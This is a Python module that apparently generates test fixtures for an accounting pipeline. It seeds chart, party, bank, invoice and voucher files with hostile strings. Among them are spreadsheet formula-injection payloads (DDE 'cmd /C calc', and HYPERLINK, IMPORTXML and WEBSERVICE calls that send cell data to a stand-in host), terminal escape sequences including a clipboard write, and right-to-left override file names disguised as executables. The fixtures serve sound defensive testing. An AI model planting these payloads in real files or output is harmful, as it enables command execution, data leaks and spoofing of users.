"""Texts that mean harm in a spreadsheet, on a terminal or in JSON, and a client full of them."""
import csv
import io
from xml.sax.saxutils import escape

import windows

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"http://x.test?\"&A1,\"Pay\")",
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2", "@cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"http://x.test?\",A1),\"//a\")", "=WEBSERVICE(\"http://x.test\")",
    "=DDE(\"cmd\";\"/C calc\";\"\")", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "'=1+1", "''=1+1",
    "\"=1+1", "\",=1+1", "\";=1+1", ";=1+1", "a;=1+1", "a;+1", "a;-1+1", "a;@SUM(1)", "a;＝1+1",
    "a,=1+1", "x;'=1+1", ";;=1+1", "=", "-", "+", "@", "--1", "=-1", "=;=;=", "-;-", "=\"\"",
    "=1+1;", "%0A=1+1", "-rf", "+33 1 23 45", "@home", "=A1:A9", "=rand()", "= 1", "=\\x",
]

TERMINAL = [
    "\u202Egnp.exe", "\u2066a\u2069", "a\u200Bb", "\uFEFFa", "a\u00ADb", "\u0085next", "\u2028line",
    "表計算", "ｆｕｌｌ", "한국어", "e\u0301", "😀😀", "👩‍👩‍👧", "\U000E0041", "a\u034Fb", "\u061Ca",
    "Ｗｉｄｅ 文字", "🇫🇷", "\u206Edigits", "\uFFF9a\uFFFBb", "\U0001D173a", "\u3164", "a\u115Fb",
    "\u180Ea", "\u200D", "ﷺ", "x" * 300, "表" * 100,
]

JSON = [
    "\"", "\\", "\\u0000", "</script>", "]]>", "{\"a\":1}", "\u2029", "\U0001F600", "\uFFFD",
    "\\\"", "\u007F", "null", "1e999", "\uFFFF", "'", "/*", "//", "\\u202e", "&lt;", "&#0;",
]

# What only text of a table can hold: XML knows no control characters.
CONTROLS = ["\x1b[31mred", "\x1b]8;;http://x.test\x07a\x1b]8;;\x07", "\x1b]52;c;eA==\x07", "\x07",
            "a\tb", "\x08\x08", "a\x00b", "\x9b31m", "a\rb", "a\nb", "\t=1+1", "\n=1+1", "\r=1+1",
            "a\t=1+1", "a\n=1+1"]

ALL = FORMULAS + TERMINAL + JSON
EVERY = ALL + CONTROLS


def table(header, rows):
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode("utf-8", "surrogatepass")


def settings():
    """One bank, one list, invoices and vouchers: nothing a bank line says is explained."""
    pipeline = f"""\
monthend: 1
client: {{name: "=Hostile & Söhne", start: 2026-09-01, currency: EUR, fiscal_year_start: 01-01, \
timezone: Europe/Paris, language: en}}
chart: chart.csv
parties: parties.csv
sources:
  bank: {{format: camt, path: bank/*.xml, accounts: {{{windows.iban(0)}: "1000"}}}}
  list: {{format: bank-csv, path: list/*.csv, account: "1001", \
columns: {{date: Date, amount: Amount, text: Text, counterparty: Name}}}}
  invoices: {{format: documents-csv, side: receivable, path: invoices/*.csv}}
  vouchers: {{format: journal-csv, path: vouchers/*.csv}}
  matches: {{format: matches-csv, path: matches/*.csv}}
  questions: {{format: questions-csv, path: questions/*.csv}}
mapping: {{unmapped: suspense}}
"""
    chart = table(["code", "name", "kind", "parent", "role", "currency"], [
        ["1000", "=Bank", "asset", "", "bank", ""], ["1001", "-List", "asset", "", "bank", ""],
        ["1200", "+Customers", "asset", "", "receivable", ""],
        ["1400", "@Suspense", "asset", "", "suspense", ""],
        ["1500", "Transfers", "asset", "", "transfers", ""],
        ["3000", "Capital", "equity", "", "", ""], ["3100", "Kept", "equity", "", "retained", ""],
        ["3200", "Profit", "equity", "", "result_profit", ""],
        ["3300", "Loss", "equity", "", "result_loss", ""],
        ["4000", "＝Sales", "income", "", "", ""], ["6000", "Costs", "expense", "", "", ""]])
    parties = table(["id", "name", "kind", "terms_days"], [
        [f"P{number}", text, "customer", "30"] for number, text in enumerate(names())])
    return {"client/pipeline.yml": pipeline.encode(), "client/chart.csv": chart,
            "client/parties.csv": parties}


def names():
    """Texts that a settings table may hold: a line each, nothing empty."""
    return [text for text in ALL if text.strip() and "\x85" not in text and "\u2028" not in text
            and "\u2029" not in text]


def drops():
    """Every text in every text field; amounts that meet, so that matches have candidates."""
    entries, invoices, lines, vouchers = [], [], [], []
    for number, text in enumerate(ALL):
        cents = 10_000 + number
        entries.append(
            f"<Ntry><Amt Ccy=\"EUR\">{windows.amount(cents)}</Amt><CdtDbtInd>CRDT</CdtDbtInd>"
            "<Sts><Cd>BOOK</Cd></Sts><BookgDt><Dt>2026-09-15</Dt></BookgDt>"
            f"<AcctSvcrRef>R{number}</AcctSvcrRef><NtryDtls><TxDtls><RltdPties><Dbtr><Nm>"
            f"{xml(text)}</Nm></Dbtr></RltdPties><RmtInf><Ustrd>{xml(text)}</Ustrd></RmtInf>"
            "</TxDtls></NtryDtls></Ntry>")
        invoices.append(["invoice", f"P{number % len(names())}", f"{text}{number}"[:60],
                         "2026-09-02", "2026-10-02", "EUR", "4000", text, windows.amount(cents),
                         "", "", windows.amount(cents), windows.amount(cents), "", ""])
    for number, text in enumerate(EVERY):
        lines.append([f"2026-09-{number % 28 + 1:02d}", windows.amount(50_000 + number), text, text])
        vouchers += [["OD", str(number), "1", "2026-09-10", "6000", "", "5.00", "", "EUR", text],
                     ["OD", str(number), "2", "2026-09-10", "3000", "", "", "5.00", "EUR", text]]
    total = sum(10_000 + number for number in range(len(ALL)))
    statement = windows.statement(0, "=S1", 0, [], (1, 30), False).decode()
    statement = statement.replace("</Stmt>", "".join(entries) + "</Stmt>").replace(
        windows.balance("CLBD", 0, 30), windows.balance("CLBD", total, 30))
    header = ("kind,party,number,date,due_date,currency,account,description,net,tax_code,tax,"
              "gross,total,instalments,applies_to").split(",")
    return {
        "bank/=1+1.xml": statement.encode(),
        "list/@list;=1+1.csv": table(["Date", "Amount", "Text", "Name"], lines),
        "invoices/-invoices.csv": table(header, invoices),
        "vouchers/+v.csv": table(
            "journal,voucher,line,date,account,party,debit,credit,currency,description".split(","),
            vouchers),
        "nobody's/\u202Ecsv.exe": b"x",
    }


def fits_xml(text):
    """True for a text that an XML 1.0 document can hold."""
    return all(ord(c) >= 0x20 and ord(c) not in (0xFFFE, 0xFFFF) for c in text)


def xml(text):
    """Text of an XML 1.0 document: what it cannot hold is left out."""
    return escape("".join(c for c in text if fits_xml(c)))


def content():
    return settings() | {f"client/inbox/{name}": bytes for name, bytes in drops().items()}
